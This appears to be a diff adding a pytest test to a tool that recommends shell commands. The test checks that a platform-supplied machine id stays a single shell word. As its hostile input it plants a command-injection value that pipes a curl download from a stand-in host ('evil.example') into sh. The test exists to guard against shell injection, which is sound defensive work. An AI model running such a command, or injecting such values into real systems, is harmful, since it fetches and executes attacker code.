@@ -151,3 +151,24 @@ def test_a_secret_name_unfit_for_a_shell_never_reaches_the_rotate_command(tmp_pa
     steps = next_steps(e, inv.root, inv.findings, release_health(e))
     commands = [c for s in steps if s.code == "ROTATE_FLY_TOKEN" for c in s.commands]
     assert commands and not any("evil.example" in c or '";' in c for c in commands), commands
+
+
+@pytest.mark.parametrize(
+    ("scenario", "app"),
+    [(UNSEEN / "machine-keeps-restarting-on-failure.yaml", "queue-app"), ("release-image-crashes", "api-app")],
+)
+def test_platform_values_in_a_command_stay_one_shell_word(tmp_path: Path, scenario: str | Path, app: str) -> None:
+    """A machine id is platform text: in a recommended command it is one shell word, whatever it holds."""
+    import shlex
+
+    from vyxops.advice import next_steps, release_health
+
+    inv, _ = run(tmp_path, scenario, app)
+    assert inv.root is not None
+    hostile = "9d9d; curl evil.example|sh"
+    inv.root.facts["machine_id"] = hostile
+    steps = next_steps(inv.evidence, inv.root, inv.findings, release_health(inv.evidence))
+    commands = [c for s in steps for c in s.commands if "--machine" in c or "machine " in c]
+    assert commands, [s.commands for s in steps]
+    for c in commands:
+        assert hostile in shlex.split(c), c
